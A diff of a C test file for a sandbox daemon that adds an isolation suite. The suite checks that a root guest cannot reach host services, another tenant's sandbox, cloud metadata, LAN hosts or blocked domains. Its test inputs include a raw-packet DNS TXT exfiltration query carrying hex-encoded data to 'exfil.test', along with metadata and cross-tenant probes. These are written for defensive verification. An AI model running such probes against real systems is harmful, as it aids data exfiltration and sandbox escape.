@@ -14,7 +14,12 @@
  * private networks (peers by name and <name>.<net>.hearth.internal, other networks, other
  * tenants and the host's services blocked); live attach and detach; a quota that caps and a
  * recharge that uncaps; a fork's new address and MAC; pause/resume keeps address, rules,
- * networks and counters; taps, addresses and nftables objects recycled after destroys. */
+ * networks and counters; taps, addresses and nftables objects recycled after destroys.
+ * The isolation suite (issue 16), as guest root: the host API and services on every host
+ * address, another tenant's sandbox, a private network it is not on, metadata (169.254.169.254)
+ * and a LAN host (192.168.77.7; blocked by default, open by rule and by egress_private), other
+ * destinations by IP literal and by name, and DNS TXT tunnelling to a domain it may not reach
+ * (the upstream's query log proves nothing left). */
 #include "apitest.h"
 #include "daemon/config.h"
 #include "inetns.h"
@@ -78,7 +83,7 @@ static const char SERVERS_PY[] =
     "    while True:\n"
     "        c, _ = s.accept(); threading.Thread(target=drain, args=(c,), daemon=True).start()\n"
     "for a, p in [('203.0.113.10', 80), ('203.0.113.10', 8080), ('203.0.113.20', 80),\n"
-    "             ('203.0.113.20', 8080)]:\n"
+    "             ('203.0.113.20', 8080), ('192.168.77.7', 80), ('169.254.169.254', 80)]:\n"
     "    threading.Thread(target=http, args=(a, p), daemon=True).start()\n"
     "threading.Thread(target=sink, args=('203.0.113.10', 9000), daemon=True).start()\n"
     "print('ready', flush=True)\n"
@@ -88,8 +93,11 @@ static bool inet_up(struct inet *in)
 {
     memset(in, 0, sizeof(*in));
     /* a namespace of our own, whatever ran us: the "host" of this test */
-    static const char *const addrs[] = { "203.0.113.10", "203.0.113.20", "203.0.113.53" };
-    REQUIRE(inetns_up(in->ns, "tinet", addrs, 3));
+    /* the internet, and a "LAN" host and a cloud metadata service (docs/networking.md
+     * "Private destinations") */
+    static const char *const addrs[] = { "203.0.113.10", "203.0.113.20", "203.0.113.53",
+                                         "192.168.77.7", "169.254.169.254" };
+    REQUIRE(inetns_up(in->ns, "tinet", addrs, 5));
     snprintf(in->dir, sizeof(in->dir), "/tmp/hearth-inet-XXXXXX");
     REQUIRE(mkdtemp(in->dir));
     char path[256], cmd[1024];
@@ -105,8 +113,9 @@ static bool inet_up(struct inet *in)
              "--listen-address=203.0.113.53 --except-interface=eth0 --user=root --pid-file= "
              "--local-ttl=60 --host-record=allowed.test,203.0.113.10 "
              "--host-record=other.test,203.0.113.20 --host-record=a.wild.test,203.0.113.20 "
-             "--host-record=wild.test,203.0.113.10 >%s/dnsmasq.log 2>&1",
-             in->dir);
+             "--host-record=wild.test,203.0.113.10 --txt-record=exfil.test,hi "
+             "--log-queries --log-facility=%s/queries.log >%s/dnsmasq.log 2>&1",
+             in->dir, in->dir);
     in->dns = inetns_spawn(in->ns, cmd);
     /* ready when both answer from the test's namespace */
     for (int i = 0; i < 100; i++) {
@@ -363,7 +372,7 @@ static bool guest_server(struct vfx *f, const char *id, const char *name)
     char s[512];
     snprintf(s, sizeof(s),
              "mkdir -p /srv && echo %s > /srv/who && cd /srv && setsid python3 -m http.server "
-             "8000 </dev/null >/dev/null 2>&1 & for i in $(seq 100); do curl -s -m 1 "
+             "8000 </dev/null >/dev/null 2>&1 & for i in $(seq 300); do curl -s -m 1 "
              "http://127.0.0.1:8000/who && exit 0; sleep 0.1; done; exit 1",
              name);
     char out[256];
@@ -388,6 +397,17 @@ static bool member_ip_of(struct vfx *f, const char *net, const char *sb, char ip
     return ip[0] != '\0';
 }
 
+/* A key of another user ("mallory"), as the request header line in hdr. */
+static bool other_tenant(struct vfx *f, char hdr[200])
+{
+    char key[128] = "", err[2048];
+    const char *kc[] = { "keys", "--config", f->s.conf, "create", "--user", "mallory", NULL };
+    REQUIRE(hd_run(kc, key, sizeof(key), err, sizeof(err)) == 0);
+    key[strcspn(key, "\n")] = '\0';
+    snprintf(hdr, 200, "X-Api-Key: %s\r\n", key);
+    return true;
+}
+
 TEST_SLOW(private_networks_and_isolation, 900)
 {
     pid_t svc = -1;
@@ -396,12 +416,8 @@ TEST_SLOW(private_networks_and_isolation, 900)
     if (!start(&in, &f))
         return;
     svc = host_service();
-    char other_key[128] = "", hdr2[200], out[4096], t[256];
-    const char *kc[] = { "keys", "--config", f.s.conf, "create", "--user", "mallory", NULL };
-    char err[2048];
-    CHECK_EQ(hd_run(kc, other_key, sizeof(other_key), err, sizeof(err)), 0);
-    other_key[strcspn(other_key, "\n")] = '\0';
-    snprintf(hdr2, sizeof(hdr2), "X-Api-Key: %s\r\n", other_key);
+    char hdr2[200], out[4096], t[256];
+    TREQ(other_tenant(&f, hdr2));
 
     char na[64], nb[64], nm[64];
     TREQ(make_network(&f, f.hdr, "backend", na));
@@ -685,6 +701,218 @@ TEST_SLOW(bandwidth_quota_and_recycling, 900)
     CHECK(call(&f, "GET", t, NULL, 404, &r));
     hresp_free(&r);
 out:
+    vfx_end(&f);
+    inet_down(&in);
+}
+
+/* ---- the isolation suite (issue 16): guest root against everything it must not reach ---- */
+
+/* Sends a TXT query for name to server:53 from the guest (UDP, raw packet: no resolver
+ * library in the way); out gets the reply's rcode ("5" = REFUSED) or "timeout". */
+static int txt_query(struct vfx *f, const char *id, const char *name, const char *server,
+                     char *out, size_t len)
+{
+    char s[1536];
+    snprintf(s, sizeof(s),
+             "python3 -c 'import socket,struct,sys\n"
+             "q=struct.pack(\">6H\",0x1234,0x0100,1,0,0,0)+b\"\".join(bytes([len(l)])+l.encode()"
+             " for l in sys.argv[1].split(\".\"))+b\"\\0\"+struct.pack(\">2H\",16,1)\n"
+             "s=socket.socket(socket.AF_INET,socket.SOCK_DGRAM);s.settimeout(3)\n"
+             "s.sendto(q,(sys.argv[2],53))\n"
+             "try:\n  print(s.recv(4096)[3]&15)\n"
+             "except Exception:\n  print(\"timeout\")' %s %s",
+             name, server);
+    return gsh(f, id, s, out, len);
+}
+
+/* The uplink's transit /30 hearthd logged ("networking: uplink"): .1 root end in out1, .2
+ * namespace end in out2. */
+static bool transit_of(struct vfx *f, char out1[32], char out2[32])
+{
+    char cmd[400], a[32] = "";
+    snprintf(cmd, sizeof(cmd), "grep -o '\"transit\":\"[0-9.]*' %s | tail -n 1 | cut -d'\"' -f4",
+             f->s.log);
+    FILE *p = popen(cmd, "r");
+    REQUIRE(p);
+    if (!fgets(a, sizeof(a), p))
+        a[0] = '\0';
+    pclose(p);
+    a[strcspn(a, "\n")] = '\0';
+    unsigned x[4];
+    REQUIRE(sscanf(a, "%u.%u.%u.%u", &x[0], &x[1], &x[2], &x[3]) == 4);
+    snprintf(out1, 32, "%u.%u.%u.%u", x[0], x[1], x[2], x[3] + 1);
+    snprintf(out2, 32, "%u.%u.%u.%u", x[0], x[1], x[2], x[3] + 2);
+    return true;
+}
+
+/* Whether the upstream resolver (dnsmasq, --log-queries) ever saw text. */
+static bool upstream_saw(const struct inet *in, const char *text)
+{
+    return inetns_sh("grep -q '%s' %s/queries.log", text, in->dir) == 0;
+}
+
+TEST_SLOW(isolation_suite_guest_root, 900)
+{
+    pid_t svc = -1;
+    struct inet in;
+    struct vfx f;
+    if (!start(&in, &f))
+        return;
+    svc = host_service();
+    char hdr2[200], out[4096], t[512];
+    TREQ(other_tenant(&f, hdr2));
+
+    /* g: the attacker, root in its guest, default egress, on no network; a peer on a private
+     * network it is not on; another tenant's sandbox */
+    char g[64], peer[64], victim[64], netid[64], peer_ip[32], peer_net_ip[32], victim_ip[32];
+    TREQ(make_network(&f, f.hdr, "backend", netid));
+    TREQ(create_in(&f, f.hdr, "attacker", "[]", g));
+    TREQ(create_in(&f, f.hdr, "peer", "[{\"id\":\"backend\"}]", peer));
+    TREQ(create_in(&f, hdr2, "victim", "[]", victim));
+    TREQ(guest_server(&f, peer, "peer"));
+    CHECK_EQ(gsh_as(&f, hdr2, victim, "mkdir -p /srv && echo victim > /srv/who && cd /srv && "
+                    "setsid python3 -m http.server 8000 </dev/null >/dev/null 2>&1 & sleep 1",
+                    out, sizeof(out)), 0);
+    CHECK_EQ(gsh(&f, g, "id -u", out, sizeof(out)), 0);
+    CHECK_STR(out, "0");
+    sandbox_ip(&f, peer, peer_ip);
+    struct hresp r;
+    snprintf(t, sizeof(t), "/v1/sandboxes/%s", victim);
+    TREQ(http_do(f.s.port, "GET", t, hdr2, NULL, &r) == 0);
+    snprintf(victim_ip, sizeof(victim_ip), "%s", jstr(r.json, "data.ip") ?: "");
+    hresp_free(&r);
+    TREQ(victim_ip[0]);
+    TREQ(member_ip_of(&f, netid, peer, peer_net_ip));
+
+    /* the host: hearthd's API port and any other host service, on every address of the host a
+     * guest can name (gateway, both ends of the uplink, the host's own address) */
+    char tr1[32], tr2[32];
+    TREQ(transit_of(&f, tr1, tr2));
+    const char *host[] = { "10.88.0.1", tr1, tr2, "198.51.100.1", "127.0.0.1" };
+    for (size_t i = 0; i < 5; i++) {
+        snprintf(t, sizeof(t), "curl -sS -m 2 http://%s:%u/v1/health", host[i], f.s.port);
+        if (gsh(&f, g, t, out, sizeof(out)) == 0)
+            harness_fail(__FILE__, __LINE__, "guest reached the API at %s", host[i]);
+        snprintf(t, sizeof(t), "curl -sS -m 2 telnet://%s:7777 </dev/null", host[i]);
+        if (gsh(&f, g, t, out, sizeof(out)) == 0)
+            harness_fail(__FILE__, __LINE__, "guest reached a host service at %s", host[i]);
+    }
+    CHECK_EQ(inetns_sh("curl -sS -m 2 telnet://198.51.100.1:7777 </dev/null | grep -q "
+                       "host-service"), 0); /* the control: the host does serve */
+
+    /* another tenant's sandbox, a private network it is not on, the peer's primary address */
+    const char *sbs[] = { victim_ip, peer_net_ip, peer_ip };
+    for (size_t i = 0; i < 3; i++) {
+        snprintf(t, sizeof(t), "curl -sS -m 2 http://%s:8000/who", sbs[i]);
+        if (gsh(&f, g, t, out, sizeof(out)) == 0)
+            harness_fail(__FILE__, __LINE__, "guest reached a sandbox at %s", sbs[i]);
+    }
+    CHECK(gsh(&f, g, "getent hosts peer.backend.hearth.internal", out, sizeof(out)) != 0);
+
+    /* metadata and the LAN: blocked by default, with the control from the host */
+    CHECK(fetch(&f, g, "http://169.254.169.254/", out, sizeof(out)) != 0);
+    CHECK(fetch(&f, g, "http://192.168.77.7/", out, sizeof(out)) != 0);
+    CHECK_EQ(inetns_sh("curl -sS -m 2 http://192.168.77.7/ | grep -q server-7-80"), 0);
+    CHECK_EQ(fetch(&f, g, "http://203.0.113.20/", out, sizeof(out)), 0);
+    /* a rule naming the LAN host opens it, and only it; next to 0.0.0.0/0 (open egress that
+     * can carry exceptions: a list holding "*" is stored as []) names still resolve */
+    CHECK(put_egress(&f, g, "[\"0.0.0.0/0\",\"192.168.77.7\"]"));
+    CHECK_EQ(fetch(&f, g, "http://192.168.77.7/", out, sizeof(out)), 0);
+    CHECK_STR(out, "server-7-80");
+    CHECK(fetch(&f, g, "http://169.254.169.254/", out, sizeof(out)) != 0);
+    CHECK_EQ(fetch(&f, g, "http://other.test/", out, sizeof(out)), 0);
+    CHECK(put_egress(&f, g, "[\"allowed.test\",\"192.168.77.0/24:80\"]"));
+    CHECK_EQ(fetch(&f, g, "http://192.168.77.7/", out, sizeof(out)), 0);
+
+    /* an allowlist: other destinations by IP literal and by name; DNS answers only its names */
+    CHECK(put_egress(&f, g, "[\"allowed.test\"]"));
+    CHECK_EQ(fetch(&f, g, "http://allowed.test/", out, sizeof(out)), 0);
+    CHECK(fetch(&f, g, "http://203.0.113.20/", out, sizeof(out)) != 0);
+    CHECK(fetch(&f, g, "http://other.test/", out, sizeof(out)) != 0);
+    CHECK(gsh(&f, g, "getent hosts other.test", out, sizeof(out)) != 0);
+    /* DNS tunnelling: TXT queries carrying data to a domain it may not reach are refused by
+     * hearthd and never reach the upstream; its own resolver is not reachable either */
+    CHECK_EQ(txt_query(&f, g, "6c65616b2d6f6e65.exfil.test", "10.88.0.1", out, sizeof(out)), 0);
+    CHECK_STR(out, "5");
+    CHECK_EQ(txt_query(&f, g, "exfil.test", "10.88.0.1", out, sizeof(out)), 0);
+    CHECK_STR(out, "5");
+    CHECK_EQ(txt_query(&f, g, "6c65616b2d74776f.exfil.test", "203.0.113.53", out, sizeof(out)),
+             0);
+    CHECK_STR(out, "timeout");
+    CHECK(!upstream_saw(&in, "6c65616b"));
+    CHECK(!upstream_saw(&in, "exfil"));
+    /* the control: with open egress the query is forwarded, answered (NOERROR, the TXT
+     * record) and logged by the upstream */
+    CHECK(put_egress(&f, g, "[]"));
+    CHECK_EQ(txt_query(&f, g, "exfil.test", "10.88.0.1", out, sizeof(out)), 0);
+    CHECK_STR(out, "0");
+    CHECK(upstream_saw(&in, "exfil.test"));
+    /* the refusals are metered where other metrics are */
+    char m[512];
+    snprintf(m, sizeof(m), "curl -sS -m 2 http://127.0.0.1:%u/metrics | grep -E "
+             "'^hearth_dns_refused_total\\{why=\"policy\"\\} [1-9]' >/dev/null && curl -sS -m 2 "
+             "http://127.0.0.1:%u/metrics | grep -q 'hearth_dns_sandbox_queries_total"
+             "{sandbox=\"%s\"}'", f.s.metrics_port, f.s.metrics_port, g);
+    CHECK_EQ(inetns_sh("%s", m), 0);
+
+    /* the switch: egress_private = allow opens metadata and the LAN to open egress, and
+     * nothing else (hearthd restarted on the changed config; the VMs keep running) */
+    FILE *cf = fopen(f.s.conf, "a");
+    TREQ(cf);
+    fputs("egress_private = allow\n", cf);
+    fclose(cf);
+    TREQ(crash_restart(&f));
+    CHECK_EQ(fetch(&f, g, "http://192.168.77.7/", out, sizeof(out)), 0);
+    CHECK_EQ(fetch(&f, g, "http://169.254.169.254/", out, sizeof(out)), 0);
+    snprintf(t, sizeof(t), "curl -sS -m 2 http://%s:8000/who", victim_ip);
+    CHECK(gsh(&f, g, t, out, sizeof(out)) != 0);
+    snprintf(t, sizeof(t), "curl -sS -m 2 http://10.88.0.1:%u/v1/health", f.s.port);
+    CHECK(gsh(&f, g, t, out, sizeof(out)) != 0);
+
+    /* a clean stop while VMs run keeps their network (namespace, uplink, rules) for the next
+     * start (docs/networking.md "Stopping and hearthd net down") */
+    CHECK_EQ(hd_stop(&f.s), 0);
+    struct hd_config hc;
+    config_defaults(&hc);
+    snprintf(hc.data_dir, sizeof(hc.data_dir), "%s", f.s.data);
+    char ns[CONFIG_NAME_SIZE], upl[16];
+    config_net_names(&hc, ns, upl);
+    snprintf(t, sizeof(t), "/run/netns/%s", ns);
+    CHECK(access(t, F_OK) == 0);
+    CHECK_EQ(inetns_sh("grep -q 'networking kept for the running vms' %s", f.s.log), 0);
+    TREQ(hd_start(&f.s));
+    CHECK_EQ(fetch(&f, g, "http://203.0.113.20/", out, sizeof(out)), 0);
+
+    /* a network can be deleted right after its last member's destroy was accepted */
+    snprintf(t, sizeof(t), "/v1/sandboxes/%s", peer);
+    CHECK(call(&f, "DELETE", t, NULL, 200, &r));
+    hresp_free(&r);
+    snprintf(t, sizeof(t), "/v1/networks/%s", netid);
+    CHECK(call(&f, "DELETE", t, NULL, 200, &r));
+    hresp_free(&r);
+    CHECK(destroy(&f, g));
+    snprintf(t, sizeof(t), "/v1/sandboxes/%s", victim);
+    CHECK(http_do(f.s.port, "DELETE", t, hdr2, NULL, &r) == 0);
+    hresp_free(&r);
+    char st[32];
+    for (int i = 0; i < 300 && strcmp(status_of(&f, peer, st), "destroyed"); i++)
+        usleep(100 * 1000);
+    bool gone = false;
+    for (int i = 0; i < 300 && !gone; i++) {
+        snprintf(t, sizeof(t), "/v1/sandboxes/%s", victim);
+        if (http_do(f.s.port, "GET", t, hdr2, NULL, &r) == 0) {
+            gone = strcmp(jstr(r.json, "data.status") ?: "", "destroyed") == 0;
+            hresp_free(&r);
+        }
+        if (!gone)
+            usleep(100 * 1000);
+    }
+    CHECK(gone);
+out:
+    if (svc > 0) {
+        kill(-svc, SIGKILL);
+        waitpid(svc, NULL, 0);
+    }
     vfx_end(&f);
     inet_down(&in);
 }
